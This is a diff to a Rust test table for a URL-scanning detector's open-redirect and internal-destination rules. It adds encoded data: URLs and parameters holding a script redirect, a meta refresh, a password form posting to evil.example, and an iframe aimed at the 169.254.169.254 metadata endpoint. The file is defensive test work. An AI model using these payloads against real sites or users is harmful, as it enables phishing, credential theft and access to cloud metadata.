@@ -237,6 +237,19 @@ const RULES: &[Row] = &[
     ("open-redirect", "https://victim.example/r?u=%25u0068ttps://evil.example/", Fires { at: "%25u0068ttps://evil.example/" }, "a %u escape"),
     ("open-redirect", "https://victim.example/r#&#104;ttps&colon;//evil.example/", Fires { at: "&#104;ttps&colon;//evil.example/" }, "HTML character references"),
     ("open-redirect", "https://victim.example/r?u=olleh//:a", Misses, "a one-letter scheme read backwards is no URL"),
+    // A data: URL's body is the page a browser renders from it: where its
+    // script, refresh, form or frame sends the visitor is where it leads.
+    ("open-redirect", "data:text/html;base64,PHNjcmlwdD5sb2NhdGlvbj0iaHR0cHM6Ly9ldmlsLmV4YW1wbGUvIjwvc2NyaXB0Pg==", Fires { at: "PHNjcmlwdD5sb2NhdGlvbj0iaHR0cHM6Ly9ldmlsLmV4YW1wbGUvIjwvc2NyaXB0Pg==" }, "a data: page's location= in base64: the whole body carries it"),
+    ("open-redirect", "data:text/html;base64,PG1ldGEgaHR0cC1lcXVpdj0icmVmcmVzaCIgY29udGVudD0iMDt1cmw9aHR0cHM6Ly9ldmlsLmV4YW1wbGUvIj4=", Fires { at: "PG1ldGEgaHR0cC1lcXVpdj0icmVmcmVzaCIgY29udGVudD0iMDt1cmw9aHR0cHM6Ly9ldmlsLmV4YW1wbGUvIj4=" }, "a data: page's meta refresh in base64"),
+    ("open-redirect", "data:text/html,%3Cmeta%20http-equiv=refresh%20content=%220;url=https://evil.example/%22%3E", Fires { at: "https://evil.example/" }, "a meta refresh in a percent-encoded body, pointed at exactly"),
+    ("open-redirect", "data:text/html,%3Cform%20action=%22https%3A%2F%2Fevil.example%2Fcollect%22%20method=post%3E%3Cinput%20name=password%3E", Fires { at: "https%3A%2F%2Fevil.example%2Fcollect" }, "a credential form posting to another site, its escapes included"),
+    ("internal-destination", "data:text/html,%3Ciframe%20src=%22http://169.254.169.254/latest/meta-data/%22%3E", Fires { at: "http://169.254.169.254/latest/meta-data/" }, "a data: page framing the metadata endpoint"),
+    ("open-redirect", "https://victim.example/r?next=data:text/html;base64,PHNjcmlwdD5sb2NhdGlvbj0iaHR0cHM6Ly9ldmlsLmV4YW1wbGUvIjwvc2NyaXB0Pg==", Fires { at: "data:text/html;base64,PHNjcmlwdD5sb2NhdGlvbj0iaHR0cHM6Ly9ldmlsLmV4YW1wbGUvIjwvc2NyaXB0Pg==" }, "a data: page carried in a parameter"),
+    ("open-redirect", "data:text/html,%3Cp%3EYour%20parcel%20is%20on%20its%20way%3C/p%3E", Misses, "a data: page that links nowhere (dangerous-scheme says what it is)"),
+    // A payload's text carries the URLs it holds among other text.
+    ("open-redirect", "https://victim.example/cb?state=eyJyZWRpcmVjdCI6Imh0dHBzOi8vZXZpbC5leGFtcGxlL3gifQ==", Fires { at: "eyJyZWRpcmVjdCI6Imh0dHBzOi8vZXZpbC5leGFtcGxlL3gifQ==" }, "base64 JSON with a URL in a value"),
+    ("open-redirect", "https://victim.example/r?m=Q29udGludWUgYXQgaHR0cHM6Ly9ldmlsLmV4YW1wbGUgbm93", Fires { at: "Q29udGludWUgYXQgaHR0cHM6Ly9ldmlsLmV4YW1wbGUgbm93" }, "base64 prose with a URL mid-text"),
+    ("open-redirect", "https://victim.example/r?m=Q29udGludWUgYXQgdGhlIGZyb250IGRlc2s=", Misses, "base64 prose with no URL"),
     ("open-redirect", "https://victim.example/login?next=/account", Misses, "a same-site path"),
     ("open-redirect", "https://accounts.google.com/?continue=https://mail.google.com/", Misses, "the same registrable domain"),
     ("open-redirect", "https://login.microsoftonline.com/common/oauth2/authorize?redirect_uri=https%3A%2F%2Fwww.office.com%2F", Misses, "one brand's own other domain"),
